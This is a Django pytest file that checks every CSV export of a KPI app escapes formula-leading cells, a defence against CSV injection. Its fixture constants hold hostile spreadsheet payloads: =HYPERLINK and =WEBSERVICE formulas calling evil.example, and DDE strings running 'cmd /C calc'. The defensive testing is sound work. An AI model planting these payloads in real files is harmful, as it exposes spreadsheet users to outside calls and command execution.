"""CSV exports never hand a spreadsheet a formula (OWASP CSV injection): text a user typed that begins
with =, +, -, @, a tab or a carriage return comes out behind an apostrophe in every export; numbers,
negative ones included, stay numbers."""

import csv
import io
import re
from datetime import date

import pytest
from django.urls import reverse
from django.utils import timezone

from kpi.models import CompanyHoliday, ImportJob, Lead, Plan, ReviewItem, ReviewRule, Target
from tests.factories import CallFactory, MeetingFactory, tokyo

pytestmark = pytest.mark.django_db

TEAM = '=HYPERLINK("http://evil.example","team")'
REP = "+cmd|' /C calc'!A0"
COMPANY = "@SUM(1+1)*cmd|' /C calc'!A0"
CONTACT = "-2+3+cmd|' /C calc'!A0"
HOLIDAY = "\t=1+1"
FILE = "\r=calls.csv"
LEAD = "=1+1"
VALUE = '=WEBSERVICE("http://evil.example")'
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?\d+(\.\d+)?([eE][+-]?\d+)?")


@pytest.fixture
def hostile(team_a, rep, manager, ops, time_machine):
    time_machine.move_to(tokyo(2026, 11, 20, 18, 0))
    team_a.name = TEAM
    team_a.save()
    rep.name = REP
    rep.save()
    CallFactory(rep=rep, started_at=tokyo(2026, 11, 2, 10, 0), duration_seconds=150, result="connected")
    Lead.objects.create(
        external_id="L-1", company=COMPANY, contact_name=CONTACT, channel="web", created_at=timezone.now()
    )
    MeetingFactory(rep=rep, lead_external_id=LEAD, amount=-3)
    CompanyHoliday.objects.create(date=date(2026, 11, 24), name=HOLIDAY)
    Target.objects.create(
        kpi_key="calls", scope="rep", scope_id=rep.pk, granularity="month", period_start=date(2026, 11, 1), value=-3
    )
    rule = ReviewRule.objects.create(kpi_key="calls", scope="rep", scope_id=rep.pk, granularity="month")
    ReviewItem.objects.create(
        rule=rule,
        kpi_key="calls",
        scope="rep",
        scope_id=rep.pk,
        team=team_a,
        granularity="month",
        threshold_pct=70,
        min_sample=30,
        pace_aware=True,
        period_start=date(2026, 11, 1),
        as_of=date(2026, 11, 20),
        target=1900,
        expected=1400,
        attainment_pct=7,
    )
    job = ImportJob.objects.create(
        kind="calls",
        original_name=FILE,
        status="refused",
        created_by=manager,
        errors=[{"row": 2, "column": "note", "code": "too_long", "value": VALUE}],
    )
    plan = Plan.objects.create(
        team=team_a,
        month=date(2026, 12, 1),
        goal_value=10,
        result={"targets": [{"kpi": "calls", "scope": "rep", "scope_id": rep.pk, "name": REP, "value": -3}]},
    )
    return {"team": team_a, "job": job, "plan": plan}


def exports(hostile):
    team, job, plan = hostile["team"], hostile["job"], hostile["plan"]
    return {
        "team board": (reverse("team_board", args=[team.pk]) + "?format=csv", [TEAM]),
        "org board": (reverse("org_board") + "?format=csv", [TEAM]),
        "review items": (reverse("review_items") + "?format=csv", [REP]),
        "targets": (reverse("targets") + "?format=csv&month=2026-11", []),
        "meetings": (reverse("fs_meetings") + "?format=csv", [LEAD]),
        "leads": (reverse("leads") + "?format=csv", [COMPANY, CONTACT]),
        "kpi sheet": (reverse("kpi_sheet") + "?format=csv", []),
        "imports": (reverse("imports") + "?format=csv", [FILE]),
        "import errors": (reverse("import_job", args=[job.pk]) + "?format=csv", [VALUE]),
        "holidays": (reverse("holidays") + "?format=csv&year=2026", [HOLIDAY]),
        "org structure": (reverse("org_structure") + "?format=csv", [REP, TEAM]),
        "plan": (reverse("plan_detail", args=[plan.pk]) + "?format=csv", [REP]),
        "review rules": (reverse("review_rules") + "?format=csv", []),
        "lead supply": (reverse("lead_supply") + "?format=csv", []),
        "weekly review": (reverse("weekly_review", args=[team.pk]) + "?format=csv", []),
    }


NAMES = [
    "team board",
    "org board",
    "review items",
    "targets",
    "meetings",
    "leads",
    "kpi sheet",
    "imports",
    "import errors",
    "holidays",
    "org structure",
    "plan",
    "review rules",
    "lead supply",
    "weekly review",
]


@pytest.mark.parametrize("name", NAMES)
def test_every_export_neutralises_formula_cells(client, ops, hostile, name):
    url, hostile_texts = exports(hostile)[name]
    client.force_login(ops)
    response = client.get(url)
    assert (response.status_code, response["Content-Type"]) == (200, "text/csv; charset=utf-8")
    cells = [cell for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig"))) for cell in row]
    formulas = [c for c in cells if c.startswith(FORMULA_START) and not NUMBER.fullmatch(c)]
    assert formulas == []
    for text in hostile_texts:
        assert "'" + text in cells


def test_negative_numbers_stay_numbers(client, ops, hostile):
    client.force_login(ops)
    targets = client.get(reverse("targets") + "?format=csv&month=2026-11").content.decode("utf-8-sig")
    assert "-3" in [cell for row in csv.reader(io.StringIO(targets)) for cell in row]
